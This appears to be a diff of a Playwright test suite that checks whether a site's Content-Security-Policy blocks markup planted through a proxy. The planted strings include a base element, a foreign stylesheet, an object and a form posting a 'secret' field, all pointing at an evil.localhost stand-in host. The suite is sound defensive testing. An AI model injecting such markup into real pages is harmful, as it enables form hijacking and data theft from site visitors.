@@ -36,7 +36,7 @@ function writeMarkup(port: number): string {
   return `<div id="planted">${filled.join("")}</div>`;
 }
 
-const plantInto = (port: number, keepsPolicy: boolean) =>
+const plantInto = (keepsPolicy: boolean, planted: string) =>
   changeAnswer(({ headers, body }) => {
     const {
       "content-security-policy": policy,
@@ -50,12 +50,12 @@ const plantInto = (port: number, keepsPolicy: boolean) =>
     };
     return {
       headers: keepsPolicy ? kept : others,
-      body: Buffer.from(body.toString().replace("</main>", `</main>${writeMarkup(port)}`)),
+      body: Buffer.from(body.toString().replace("</main>", `</main>${planted}`)),
     };
   });
 
 async function runAttacks(page: Page, proxy: FaultProxy, keepsPolicy: boolean): Promise<readonly string[]> {
-  proxy.respond((path) => path === homePage, plantInto(proxy.port, keepsPolicy));
+  proxy.respond((path) => path === homePage, plantInto(keepsPolicy, writeMarkup(proxy.port)));
   await page.goto(`http://localhost:${proxy.port}${homePage}`);
   await page.locator('[data-remote="header"][data-state="mounted"]').waitFor();
   await page.locator("#planted-link").dispatchEvent("click");
@@ -74,36 +74,46 @@ test.describe("markup that somebody planted", () => {
     expect(await runAttacks(page, faultProxy, true)).toEqual([]);
   });
 
-  test("a base element, a foreign form, a foreign sheet and a plugin lead nowhere", async ({
-    page,
-    faultProxy,
-  }) => {
-    const evil = `http://evil.localhost:${faultProxy.port}`;
-    const planted =
-      `<base href="${evil}/"><link rel="stylesheet" href="${evil}/evil.css">` +
-      `<object data="${evil}/evil.html"></object><embed src="${evil}/evil.html">` +
-      `<form id="planted-form" action="${evil}/take" method="post"><input name="secret" value="1"></form>`;
-    faultProxy.respond(
-      (path) => path === homePage,
-      changeAnswer(({ body }) => ({
-        body: Buffer.from(body.toString().replace("<main", `${planted}<main`)),
-      })),
-    );
-    await page.goto(`http://localhost:${faultProxy.port}${homePage}`);
-    await page.locator('[data-remote="header"][data-state="mounted"]').waitFor();
-    await page.locator("#planted-form").evaluate(
-      (form: HTMLFormElement) =>
-        new Promise<void>((resolve) => {
-          document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
-            if (effectiveDirective === "form-action") resolve();
-          });
-          setTimeout(() => form.submit());
-        }),
-    );
-    expect(await page.evaluate(() => document.baseURI)).toBe(page.url());
-    expect(faultProxy.seen.filter(({ host }) => host.startsWith("evil."))).toEqual([]);
-  });
+  for (const keepsPolicy of [false, true]) {
+    const outcome = keepsPolicy ? "lead nowhere" : "are followed where no policy stands in their way";
+    test(`a base element, a foreign sheet, a plugin and a form ${outcome}`, async ({ page, faultProxy }) => {
+      const evil = `http://evil.localhost:${faultProxy.port}`;
+      // the base comes last: before the page's own addresses it would only break the page
+      const planted =
+        `<link rel="stylesheet" href="${evil}/evil.css"><object data="${evil}/object.html"></object>` +
+        `<form id="planted-form" action="${evil}/form" method="post"><input name="secret" value="1"></form>` +
+        `<base href="${evil}/"><img src="base.png" alt="">`;
+      faultProxy.respond((path) => path === homePage, plantInto(keepsPolicy, planted));
+      await page.goto(`http://localhost:${faultProxy.port}${homePage}`);
+      if (keepsPolicy) await page.locator('[data-remote="footer"][data-state="mounted"]').waitFor();
+      await submitUntilAnswered(page, keepsPolicy);
+      const followed = faultProxy.seen.filter(({ host }) => host.startsWith("evil.")).map(({ path }) => path);
+      expect(followed.sort()).toEqual(
+        keepsPolicy ? [] : expect.arrayContaining(["/base.png", "/evil.css", "/form", "/object.html"]),
+      );
+    });
+  }
 });
+
+/** Sends the planted form; resolves when it was refused, or when its answer has come. */
+async function submitUntilAnswered(page: Page, isRefused: boolean): Promise<void> {
+  if (!isRefused) {
+    const answered = page.waitForEvent("requestfinished", (request) => request.url().endsWith("/form"));
+    await page.locator("#planted-form").evaluate((form: HTMLFormElement) => {
+      setTimeout(() => form.submit());
+    });
+    return void (await answered);
+  }
+  await page.locator("#planted-form").evaluate(
+    (form: HTMLFormElement) =>
+      new Promise<void>((resolve) => {
+        document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
+          if (effectiveDirective === "form-action") resolve();
+        });
+        setTimeout(() => form.submit());
+      }),
+  );
+}
 
 /** The pages that a build writes, in editions that differ in direction, alphabet and head. */
 const normalPages: readonly (readonly [EditionId, string])[] = (
